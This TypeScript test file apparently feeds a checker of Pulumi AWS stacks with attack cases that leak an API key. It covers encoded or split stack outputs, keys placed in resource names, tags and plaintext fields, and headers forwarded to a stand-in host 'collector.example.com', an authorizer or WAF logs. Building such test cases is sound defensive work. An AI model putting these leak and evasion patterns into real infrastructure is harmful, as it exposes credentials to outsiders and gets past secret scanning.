import { brotliCompressSync, deflateRawSync } from "node:zlib";

import * as apigateway from "@pulumi/aws/apigateway";
import * as kms from "@pulumi/aws/kms";
import { Provider } from "@pulumi/aws/provider";
import * as sns from "@pulumi/aws/sns";
import * as ssm from "@pulumi/aws/ssm";
import * as wafv2 from "@pulumi/aws/wafv2";
import * as pulumi from "@pulumi/pulumi";

import type { Attack } from "../harness/attack";
import { INTEGRATION, withParameters } from "../harness/changes";
import type { Mine } from "../mine";
import { ACCOUNT } from "../shared";
import { attackOf, props } from "./support";

const made = attackOf("key", "the key is in the key and in secrets only");

/** The key's value in an output, written in another way. */
const output = (name: string, breaks: string, write: (key: string) => unknown): Attack =>
  made(`output-${name}`, breaks, {
    outputs: { value: ({ apiKey }) => pulumi.unsecret(apiKey.apply(write)) },
  });

function ascii85(text: string): string {
  return (
    Buffer.from(text)
      .toString("latin1")
      .match(/[^]{4}/g) ?? []
  )
    .map((four) => {
      let value = Buffer.from(four, "latin1").readUInt32BE();
      const digits: string[] = [];
      for (let digit = 0; digit < 5; digit += 1) {
        digits.unshift(String.fromCharCode((value % 85) + 33));
        value = Math.floor(value / 85);
      }
      return digits.join("");
    })
    .join("");
}

const each = (key: string, write: (code: number) => string) => [...Buffer.from(key)].map(write).join("");

const outputs: Attack[] = [
  output("utf16", "an output is the key as PowerShell encodes commands", (key) =>
    Buffer.from(key, "utf16le").toString("base64"),
  ),
  output("number", "an output is the key as one large number", (key) =>
    BigInt(`0x${Buffer.from(key).toString("hex")}`).toString(),
  ),
  output("octal", "an output is the key in the octal escapes of a shell", (key) =>
    each(key, (code) => `\\${code.toString(8).padStart(3, "0")}`),
  ),
  output("mail", "an output is the key as mails quote it", (key) =>
    each(key, (code) => `=${code.toString(16).toUpperCase()}`),
  ),
  output("entity", "an output is the key in hexadecimal entities", (key) =>
    each(key, (code) => `&#x${code.toString(16)};`),
  ),
  output("ascii85", "an output is the key in Ascii85", ascii85),
  output("deflated", "an output is the key, deflated, in Base64 for addresses", (key) =>
    deflateRawSync(key).toString("base64url"),
  ),
  output("brotli", "an output is the key, compressed by Brotli, in Base64", (key) =>
    brotliCompressSync(key).toString("base64"),
  ),
  output(
    "masked-end",
    "an output hides the last four characters of the key, and shows the others",
    (key) => `${key.slice(0, -4)}****`,
  ),
  output(
    "masked-middle",
    "an output hides four characters in the middle of the key",
    (key) => `${key.slice(0, 18)}****${key.slice(22)}`,
  ),
  made("output-two-halves", "two outputs are the two halves of the key", {
    outputs: {
      first: ({ apiKey }) => pulumi.unsecret(apiKey.apply((key) => key.slice(0, 20))),
      second: ({ apiKey }) => pulumi.unsecret(apiKey.apply((key) => key.slice(20))),
    },
  }),
];

class Box extends pulumi.ComponentResource {}

/** The key's value in a resource that keeps no secrets. */
const place = (name: string, breaks: string, add: (b: Mine, key: pulumi.Output<string>) => unknown): Attack =>
  made(`in-${name}`, breaks, { add: (b) => void add(b, pulumi.unsecret(b.apiKey)) });

const topic = (b: Mine, more: object = {}, opts: pulumi.CustomResourceOptions = {}, name = `${b.name}-topic`) =>
  new sns.Topic(name, { region: b.region, kmsMasterKeyId: "alias/orders", tags: b.tags, ...more }, opts);

const places: Attack[] = [
  place("urn", "the name of a resource has the key", (b, key) =>
    key.apply((text) => void topic(b, {}, {}, `${b.name}-${text}`)),
  ),
  place("component-input", "the arguments of a component have the key", (b, key) => {
    new Box("orders:index:Box", `${b.name}-box`, { key });
  }),
  place("component-output", "the outputs of a component have the key", (b, key) => {
    class Open extends pulumi.ComponentResource {
      constructor() {
        super("orders:index:Open", `${b.name}-open`);
        this.registerOutputs({ header: pulumi.interpolate`x-api-key: ${key}` });
      }
    }
    new Open();
  }),
  place("provider-tags", "the tags of a provider, so of all that it makes, have the key", (b, key) =>
    topic(b, {}, { provider: new Provider(`${b.name}-aws`, { region: "ap-south-1", defaultTags: { tags: { key } } }) }),
  ),
  place(
    "plaintext",
    "what is to be encrypted stands beside it in plain",
    (b, key) => new kms.Ciphertext(`${b.name}-ciphertext`, { region: b.region, keyId: "alias/orders", plaintext: key }),
  ),
  place("two-parameters", "two parameters hold a half of the key each", (b, key) => {
    for (const [at, half] of ["first", "second"].entries()) {
      new ssm.Parameter(`${b.name}-${half}`, {
        region: b.region,
        type: "String",
        value: key.apply((text) => text.slice(at * 20, at * 20 + 20)),
        tags: b.tags,
      });
    }
  }),
];

const change = (name: string, breaks: string, parameters: Record<string, string>): Attack =>
  made(name, breaks, { changes: { [INTEGRATION]: props(withParameters(parameters)) } });

/** Adds a path of the API whose integration is somewhere else. */
function path(b: Mine, integration: Partial<apigateway.IntegrationArgs>): void {
  const { name, region, pipeline } = b;
  const resource = new apigateway.Resource(`${name}-resource`, {
    region,
    restApi: pipeline.apiId,
    parentId: "root",
    pathPart: "other",
  });
  const at = { region, restApi: pipeline.apiId, resourceId: resource.id };
  const method = new apigateway.Method(`${name}-method`, {
    ...at,
    httpMethod: "POST",
    authorization: "NONE",
    apiKeyRequired: true,
  });
  new apigateway.Integration(`${name}-integration`, {
    ...at,
    httpMethod: method.httpMethod,
    integrationHttpMethod: "POST",
    type: "HTTP_PROXY",
    timeoutMilliseconds: 6000,
    ...integration,
  });
}

const passed: Attack[] = [
  change("multi-value", "a header to Kinesis is the caller's key, as a list", {
    "integration.request.header.X-Trace": "method.request.multivalueheader.x-api-key",
  }),
  change("capital-query", "an address to Kinesis has the caller's key", {
    "integration.request.querystring.k": "method.request.header.X-API-KEY",
  }),
  made("passed-on", "every header of a caller, its key too, goes to somebody else's server", {
    own: true,
    add: (b) => {
      path(b, { uri: "https://collector.example.com/" });
    },
  }),
  made("authorizer-source", "the key goes to a function, which may log it", {
    own: true,
    add: (b) =>
      new apigateway.Authorizer(`${b.name}-authorizer`, {
        region: b.region,
        restApi: b.pipeline.apiId,
        name: "by-key",
        type: "REQUEST",
        identitySource: "method.request.header.x-api-key",
        authorizerUri: `arn:aws:apigateway:${b.region}:lambda:path/2015-03-31/functions/arn:aws:lambda:${b.region}:${ACCOUNT}:function:who/invocations`,
        authorizerResultTtlInSeconds: 300,
      }),
  }),
  made("acl-log", "the log of a web ACL has every header of every caller, the key too", {
    own: true,
    add: (b) => {
      const visible = { cloudwatchMetricsEnabled: true, sampledRequestsEnabled: false, metricName: "m" };
      const acl = new wafv2.WebAcl(`${b.name}-acl`, {
        region: b.region,
        scope: "REGIONAL",
        defaultAction: { allow: {} },
        visibilityConfig: visible,
        tags: b.tags,
      });
      new wafv2.WebAclAssociation(`${b.name}-association`, {
        region: b.region,
        resourceArn: (b.resource("api-stage") as apigateway.Stage).arn,
        webAclArn: acl.arn,
      });
      new wafv2.WebAclLoggingConfiguration(`${b.name}-logging`, {
        region: b.region,
        resourceArn: acl.arn,
        logDestinationConfigs: [`arn:aws:logs:${b.region}:${ACCOUNT}:log-group:aws-waf-logs-orders`],
      });
    },
  }),
];

export const leaks: readonly Attack[] = [...outputs, ...places, ...passed];
